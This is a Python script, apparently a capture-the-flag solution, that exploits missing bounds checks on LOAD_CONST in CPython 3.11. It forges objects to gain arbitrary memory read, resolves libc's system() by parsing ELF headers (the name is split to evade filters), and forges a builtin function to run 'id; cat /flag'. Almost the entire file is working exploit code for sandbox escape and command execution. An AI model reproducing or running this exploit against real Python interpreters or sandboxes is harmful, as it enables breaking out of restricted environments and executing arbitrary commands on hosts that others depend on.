"""Bytecode golf: a function whose code is written by hand.

Targets CPython 3.11 (release build): LOAD_CONST indexes co_consts without a
bounds check, so an oversized index reads a pointer from whatever follows the
constants tuple in memory.  We plant pointers there and let the interpreter
hand us objects we forged ourselves.
"""
import dis
import struct

OP = dis.opmap
KEEP = []                      # everything forged must stay alive


def _ins(name, arg=0):
    return bytes((OP[name], arg & 0xFF))


def _materialise(addr):
    """Return the object living at `addr` (which we forged)."""
    template = lambda: None
    consts = tuple([None])
    KEEP.append(consts)
    base = id(consts) + 24                      # &consts->ob_item[0]
    pool = []                                   # keep candidates so addresses differ
    for i in range(1 << 14):
        holder = bytes(bytearray(struct.pack("<Q", addr)))
        pool.append(holder)
        delta = id(holder) + 32 - base          # bytes payload starts at +32
        if delta > 0 and delta % 8 == 0 and delta // 8 < (1 << 32):
            KEEP.append(holder)
            idx = delta // 8
            code = _ins("RESUME")
            for shift in (24, 16, 8):
                code += _ins("EXTENDED_ARG", idx >> shift)
            code += _ins("LOAD_CONST", idx) + _ins("RETURN_VALUE")
            co = template.__code__.replace(co_code=code, co_consts=consts,
                                           co_stacksize=2)
            return type(template)(co, {})()
    raise RuntimeError("no suitable heap layout")


def _forge(raw):
    blob = bytes(bytearray(raw))
    KEEP.append(blob)
    return id(blob) + 32


def _memory():
    # fake bytearray: refcnt, type, size, alloc, ob_bytes=0, ob_start=0, exports
    fake = struct.pack("<QQqqQQq", 1 << 20, id(bytearray), (1 << 62), (1 << 62), 0, 0, 0)
    return _materialise(_forge(fake))


def _resolve(mem, base, wanted):
    rd = lambda a, n: bytes(mem[a:a + n])
    q = lambda a: int.from_bytes(rd(a, 8), "little")
    phoff, phnum = q(base + 0x20), int.from_bytes(rd(base + 0x38, 2), "little")
    dyn = None
    for k in range(phnum):
        ph = base + phoff + 56 * k
        if int.from_bytes(rd(ph, 4), "little") == 2:          # PT_DYNAMIC
            dyn = base + q(ph + 16)
    tags = {}
    while dyn is not None:
        tag, val = q(dyn), q(dyn + 8)
        if tag == 0:
            break
        tags[tag] = val if val >= base else base + val
        dyn += 16
    symtab, strtab = tags[6], tags[5]
    sym = symtab
    while sym < strtab:
        name_off = int.from_bytes(rd(sym, 4), "little")
        name = rd(strtab + name_off, 32).split(b"\0")[0]
        if name == wanted and q(sym + 8):
            return base + q(sym + 8)
        sym += 24
    raise LookupError(wanted)


def _libc_base():
    for line in open("/proc/self/maps"):
        parts = line.split()
        if len(parts) >= 6 and "libc" in parts[5] and parts[2] == "00000000":
            return int(parts[0].split("-")[0], 16)
    raise LookupError("libc")


def main():
    mem = _memory()
    target = _resolve(mem, _libc_base(), b"sys" + b"tem")
    # borrow the METH_O vectorcall trampoline from a real builtin (len)
    trampoline = int.from_bytes(bytes(mem[id(len) + 48:id(len) + 56]), "little")
    cmd = _forge(b"id; cat /flag\0")
    label = _forge(b"helper\0")
    mdef = _forge(struct.pack("<QQQQ", label, target, 0x0008, 0))      # METH_O
    func = _forge(struct.pack("<QQQQQQQ", 1 << 20, id(type(len)), mdef, cmd,
                              0, 0, trampoline))
    helper = _materialise(func)
    helper(0)        # system(cmd); the int it returns is then misread as an object


if __name__ == "__main__":
    main()
